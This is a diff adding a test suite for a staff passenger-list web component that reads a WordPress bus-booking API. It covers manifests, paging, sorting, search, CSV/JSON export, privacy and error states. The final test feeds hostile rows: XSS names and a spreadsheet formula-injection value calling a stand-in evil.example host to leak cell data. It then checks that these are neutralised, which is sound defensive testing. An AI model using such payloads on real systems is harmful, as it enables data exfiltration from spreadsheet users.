@@ -1,0 +1,304 @@
+// <bus-passenger-list> against the reference API behind the real proxy (private routes behind a
+// bearer token, as staff pages use it), and scripted servers for the failures.
+import { expect, fixture, fixtureCleanup, html, oneEvent, waitUntil } from '@open-wc/testing';
+import { sendKeys } from '@web/test-runner-commands';
+import './bus-passenger-list.js';
+import type { BusPassengerList, PassengerSelectDetail } from './bus-passenger-list.js';
+import type { DownloadDetail } from '../../shared/staff/download.js';
+import { cacheForOrigin } from '../../api/cache.js';
+import { expectInert, expectLoadingSkeleton, part, parts, settled, text, xssPayloads } from '../../../test/helpers/element.js';
+import { proxiedServer, scriptedServer, type LoopbackServer } from '../../../test/helpers/servers.js';
+
+const TOKEN = 'staff-token-for-tests-0123456789';
+
+/** One raw contract passenger as the wire has it (the test's own reading, not the element's). */
+interface WirePassenger {
+  booking_id: number;
+  name: string;
+  bus_id: number;
+  date: string;
+  boarding_point: string;
+  dropping_point: string;
+  seat: string;
+  ticket_type: string;
+  price: number;
+}
+
+function passengerList(base: string, attributes: { busId?: string; date?: string; authorization?: string; extra?: Partial<BusPassengerList> } = {}) {
+  return fixture<BusPassengerList>(
+    html`<bus-passenger-list
+      base-url=${base}
+      bus-id=${attributes.busId ?? ''}
+      date=${attributes.date ?? ''}
+      lang="en"
+      .authorization=${attributes.authorization ?? ''}
+      .perPage=${attributes.extra?.perPage ?? 50}
+    ></bus-passenger-list>`,
+  );
+}
+
+const rowNames = (el: Element) => parts(el, 'row').map((row) => text(row.querySelector('[data-column="name"]')));
+const totals = (el: Element) =>
+  Object.fromEntries([...el.shadowRoot!.querySelectorAll<HTMLElement>('[part~="totals"] dd')].map((dd) => [dd.dataset['total'], text(dd)]));
+
+describe('<bus-passenger-list> through the proxy', () => {
+  let proxy: LoopbackServer;
+  let base: string;
+  let all: WirePassenger[];
+
+  before(async () => {
+    proxy = await proxiedServer({ token: TOKEN });
+    base = `${proxy.origin}/wp-json`;
+    // What the site holds, read page by page with the token (independently of the element).
+    all = [];
+    for (let page = 1; ; page++) {
+      const response = await fetch(`${base}/wbtm/v1/passengers?per_page=100&page=${page}`, { headers: { Authorization: `Bearer ${TOKEN}` } });
+      all.push(...((await response.json()) as WirePassenger[]));
+      if (page >= Number(response.headers.get('X-WP-TotalPages'))) break;
+    }
+  });
+  after(() => proxy.stop());
+  afterEach(() => fixtureCleanup());
+
+  /** The bus and date with the most passengers in the seed. */
+  function busiest(): { busId: number; date: string; rows: WirePassenger[] } {
+    const groups = new Map<string, WirePassenger[]>();
+    for (const row of all) groups.set(`${row.bus_id}|${row.date}`, [...(groups.get(`${row.bus_id}|${row.date}`) ?? []), row]);
+    const [key, rows] = [...groups].sort((a, b) => b[1].length - a[1].length || a[0].localeCompare(b[0]))[0]!;
+    const [busId, date] = key.split('|');
+    return { busId: Number(busId), date: date!, rows };
+  }
+
+  it('shows a loading skeleton, then a manifest whose counts, revenue and per-stop numbers match the site', async () => {
+    const { busId, date, rows } = busiest();
+    const el = await passengerList(base, { busId: String(busId), date, authorization: `Bearer ${TOKEN}` });
+    el.currency = 'EUR';
+    await expectLoadingSkeleton(el);
+    await settled(el);
+    expect(parts(el, 'row')).to.have.length(rows.length);
+    const revenue = Math.round(rows.reduce((sum, row) => sum + row.price, 0) * 100) / 100;
+    const euro = new Intl.NumberFormat('en', { style: 'currency', currency: 'EUR' });
+    expect(totals(el)).to.deep.equal({
+      passengers: String(rows.length),
+      seats: String(new Set(rows.map((row) => row.seat)).size),
+      revenue: euro.format(revenue),
+    });
+    // Per ticket type: count and revenue.
+    for (const type of new Set(rows.map((row) => row.ticket_type))) {
+      const ofType = rows.filter((row) => row.ticket_type === type);
+      const line = el.shadowRoot!.querySelector(`[part~="ticket-types"] tr[data-ticket-type="${type}"]`)!;
+      expect([...line.querySelectorAll('td')].map(text)).to.deep.equal([
+        String(ofType.length),
+        euro.format(Math.round(ofType.reduce((s, r) => s + r.price, 0) * 100) / 100),
+      ]);
+    }
+    // The driver's manifest: boardings and alightings per stop.
+    for (const stop of new Set(rows.flatMap((row) => [row.boarding_point, row.dropping_point]))) {
+      const line = [...el.shadowRoot!.querySelectorAll<HTMLElement>('[part~="manifest"] tbody tr')].find((tr) => tr.dataset['stop'] === stop)!;
+      const boarding = rows.filter((row) => row.boarding_point === stop).length;
+      const alighting = rows.filter((row) => row.dropping_point === stop).length;
+      expect([...line.querySelectorAll('td')].map(text), stop).to.deep.equal([boarding ? String(boarding) : '', alighting ? String(alighting) : '']);
+    }
+    await expect(el).to.be.accessible();
+  });
+
+  it('reads every page (over 100 rows) and serves any per-page on its own; CSV holds every row', async () => {
+    const el = await passengerList(base, { authorization: `Bearer ${TOKEN}`, extra: { perPage: 150 } });
+    await settled(el);
+    expect(all.length).to.be.greaterThan(100);
+    expect(parts(el, 'row')).to.have.length(Math.min(150, all.length));
+    expect(text(part(el, 'count'))).to.equal(`1–${Math.min(150, all.length)} of ${all.length}`);
+    const csv = el.toCsv();
+    expect(csv.startsWith('\uFEFF"Name","Seat","Boarding","Dropping","Ticket type","Price","E-mail","Phone","Booking"\r\n')).to.equal(true);
+    expect(csv.endsWith('\r\n')).to.equal(true);
+    expect(csv.split('\r\n')).to.have.length(all.length + 2); // header, rows, and the empty tail after the last CRLF
+    // A phone number that starts with "+" is neutralised like any formula start.
+    expect(csv).to.match(/"'\+\d/);
+    const json = JSON.parse(el.toJson()) as Record<string, unknown>[];
+    expect(json).to.have.length(all.length);
+    expect(Object.keys(json[0]!)).to.deep.equal(['name', 'seat', 'boarding', 'dropping', 'ticket-type', 'price', 'email', 'phone', 'booking-id']);
+  });
+
+  it('sorts by keyboard: Enter on a column header sorts ascending, again descending, with aria-sort', async () => {
+    const { busId, date, rows } = busiest();
+    const el = await passengerList(base, { busId: String(busId), date, authorization: `Bearer ${TOKEN}` });
+    await settled(el);
+    const header = () => el.shadowRoot!.querySelector<HTMLElement>('th[data-column="seat"]')!;
+    const seats = () => parts(el, 'row').map((row) => text(row.querySelector('[data-column="seat"]')));
+    const collator = new Intl.Collator('en', { numeric: true, sensitivity: 'base' });
+    const ascending = rows.map((row) => row.seat).sort(collator.compare);
+    header().querySelector('button')!.focus();
+    await sendKeys({ press: 'Enter' });
+    await el.updateComplete;
+    expect(header().getAttribute('aria-sort')).to.equal('ascending');
+    expect(seats()).to.deep.equal(ascending);
+    await sendKeys({ press: 'Enter' });
+    await el.updateComplete;
+    expect(header().getAttribute('aria-sort')).to.equal('descending');
+    expect(seats()).to.deep.equal([...ascending].reverse());
+    expect(el.sort).to.equal('-seat');
+    expect(el.shadowRoot!.querySelectorAll('th[aria-sort]')).to.have.length(1);
+  });
+
+  it('searches across the shown columns, accents and case ignored; the CSV holds the matches of every page', async () => {
+    const el = await passengerList(base, { authorization: `Bearer ${TOKEN}`, extra: { perPage: 10 } });
+    await settled(el);
+    const target = all.find((row) => /[À-ž]/.test(row.name)) ?? all[0]!;
+    const word = target.name.split(' ')[0]!;
+    const folded = word.normalize('NFD').replace(/\p{M}/gu, '').toUpperCase();
+    const input = el.shadowRoot!.querySelector<HTMLInputElement>('input[type="search"]')!;
+    input.focus();
+    await sendKeys({ type: folded });
+    await el.updateComplete;
+    const fold = (value: string) => value.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase();
+    const expected = all.filter((row) =>
+      [row.name, row.seat, row.boarding_point, row.dropping_point, row.ticket_type].some((v) => fold(v).includes(fold(word))),
+    );
+    expect(el.matchingRows).to.have.length(expected.length);
+    expect(el.toCsv().split('\r\n').length - 2).to.equal(expected.length);
+    await sendKeys({ type: 'zzzz-nobody' });
+    await el.updateComplete;
+    expect(text(part(el, 'count'))).to.contain('No rows match');
+    await expect(el).to.be.accessible();
+  });
+
+  it('fires passenger-select from the name button and a cancelable download with the file', async () => {
+    const { busId, date } = busiest();
+    const el = await passengerList(base, { busId: String(busId), date, authorization: `Bearer ${TOKEN}` });
+    await settled(el);
+    const picked = oneEvent(el, 'passenger-select');
+    part(el, 'row-button')!.click();
+    expect(((await picked) as CustomEvent<PassengerSelectDetail>).detail.passenger.busId).to.equal(busId);
+    const downloads: DownloadDetail[] = [];
+    el.addEventListener('download', (event) => {
+      event.preventDefault();
+      downloads.push(event.detail);
+    });
+    part(el, 'download-csv')!.click();
+    part(el, 'download-json')!.click();
+    expect(downloads.map((d) => [d.filename, d.type])).to.deep.equal([
+      [`passengers-bus-${busId}-${date}.csv`, 'text/csv;charset=utf-8'],
+      [`passengers-bus-${busId}-${date}.json`, 'application/json'],
+    ]);
+    expect(downloads[0]!.content).to.equal(el.toCsv());
+  });
+
+  it('personal data stays private: no attribute, not in the shared cache, dropped on removal', async () => {
+    const { busId, date } = busiest();
+    const el = await passengerList(base, { busId: String(busId), date, authorization: `Bearer ${TOKEN}` });
+    await settled(el);
+    expect(el.hasAttribute('authorization')).to.equal(false);
+    expect(el.outerHTML).to.not.contain(TOKEN);
+    expect(el.allRows.length).to.be.greaterThan(0);
+    // The page-wide cache of the proxy's origin holds no passengers answer.
+    const cached = await cacheForOrigin(proxy.origin)
+      .get({ url: `${base}/wbtm/v1/passengers?bus_id=${busId}&date=${date}&page=1&per_page=100`, ttlMs: 60_000 })
+      .catch((error: unknown) => error);
+    expect(cached).to.have.property('status', 401); // asked anew, without the token: refused
+    expect(JSON.stringify(localStorage) + JSON.stringify(sessionStorage)).to.not.contain('booking');
+    el.remove();
+    expect(el.allRows).to.deep.equal([]);
+  });
+
+  it('without the token: "Sign in to see passengers", no rows, no retry', async () => {
+    const el = await passengerList(base, {});
+    await settled(el);
+    expect(part(el, 'error')!.dataset['kind']).to.equal('sign-in');
+    expect(text(part(el, 'error-message'))).to.equal('Sign in to see passengers.');
+    expect(part(el, 'retry')).to.equal(null);
+    expect(part(el, 'table')).to.equal(null);
+    await expect(el).to.be.accessible();
+    // Signing in on the same element loads the list.
+    el.authorization = `Bearer ${TOKEN}`;
+    await el.updateComplete;
+    await settled(el, ['list']);
+    expect(parts(el, 'row').length).to.be.greaterThan(0);
+  });
+
+  it('an empty manifest says "No confirmed bookings."', async () => {
+    const el = await passengerList(base, { busId: String(busiest().busId), date: '2031-01-01', authorization: `Bearer ${TOKEN}` });
+    await settled(el);
+    expect(text(part(el, 'empty'))).to.equal('No confirmed bookings.');
+    await expect(el).to.be.accessible();
+  });
+});
+
+describe('<bus-passenger-list> failures and hostile data', () => {
+  let server: LoopbackServer | undefined;
+  afterEach(async () => {
+    fixtureCleanup();
+    await server?.stop();
+    server = undefined;
+  });
+
+  async function scripted(status: number, body: unknown): Promise<string> {
+    server = await scriptedServer([{ status, body }]);
+    return `${server.origin}/wp-json`;
+  }
+
+  it('403 rest_forbidden: the sign-in state', async () => {
+    const el = await passengerList(await scripted(403, { code: 'rest_forbidden', message: 'Sorry', data: { status: 403 } }), { authorization: 'Bearer x' });
+    await settled(el);
+    expect(text(part(el, 'error-message'))).to.equal('Sign in to see passengers.');
+  });
+
+  it('an expired nonce says so; the nonce goes out as X-WP-Nonce with cookies', async () => {
+    const base = await scripted(403, { code: 'rest_cookie_invalid_nonce', message: 'Cookie check failed', data: { status: 403 } });
+    const el = await fixture<BusPassengerList>(html`<bus-passenger-list base-url=${base} nonce="abc123" lang="en"></bus-passenger-list>`);
+    await settled(el);
+    expect(part(el, 'error')!.dataset['kind']).to.equal('expired');
+    expect(text(part(el, 'error-message'))).to.equal('Your WordPress session has expired. Reload the page and sign in again.');
+    const [request] = await server!.requests();
+    expect(request!.nonce).to.equal('abc123');
+    expect(request!.authorization).to.equal(false);
+    await expect(el).to.be.accessible();
+  });
+
+  it('rest_no_route (the real bus plugin): the site does not publish passengers', async () => {
+    const el = await passengerList(await scripted(404, { code: 'rest_no_route', message: 'No route', data: { status: 404 } }), { authorization: 'Bearer x' });
+    await settled(el);
+    expect(part(el, 'error')!.dataset['kind']).to.equal('unpublished');
+    expect(text(part(el, 'error-message'))).to.contain('does not publish passengers');
+    await expect(el).to.be.accessible();
+  });
+
+  it('a dead endpoint: a network message with a Retry that loads again', async () => {
+    server = await scriptedServer([{ destroy: true }]);
+    const el = await passengerList(`${server.origin}/wp-json`, { authorization: 'Bearer x' });
+    await settled(el);
+    expect(text(part(el, 'error-message'))).to.equal('The site could not be reached. Check the connection and try again.');
+    const before = (await server.requests()).length;
+    part(el, 'retry')!.click();
+    await waitUntil(async () => (await server!.requests()).length > before, 'the retry request');
+    await expect(el).to.be.accessible();
+  });
+
+  it('hostile names render as text, and formula cells are neutralised in the CSV', async () => {
+    const payloads = xssPayloads('__passengerXss');
+    const rows = payloads.map((name, index) => ({
+      booking_id: 900 + index,
+      name,
+      email: `=HYPERLINK("http://evil.example/?"&A1,"x${index}")`,
+      phone: '@SUM(1+1)',
+      bus_id: 7,
+      date: '2026-11-24',
+      boarding_point: `<b>Paris</b>${index}`,
+      dropping_point: '-2+3',
+      seat: `A${index}`,
+      ticket_type: '\tadult',
+      price: 10,
+      status: 'confirmed',
+    }));
+    const base = await scripted(200, rows);
+    const el = await passengerList(base, { authorization: 'Bearer x' });
+    await settled(el);
+    expectInert(el, '__passengerXss');
+    const csvLines = el.toCsv().split('\r\n');
+    for (const line of csvLines.slice(1, -1)) {
+      const cells = line.match(/"(?:[^"]|"")*"|[^,]+/g)!;
+      for (const cell of cells) if (cell.startsWith('"')) expect(cell[1], line).to.not.match(/[=+\-@\t\r]/);
+    }
+    expect(csvLines[1]).to.contain('"\'=HYPERLINK(""http://evil.example/?""&A1,""x');
+    await expect(el).to.be.accessible();
+  });
+});
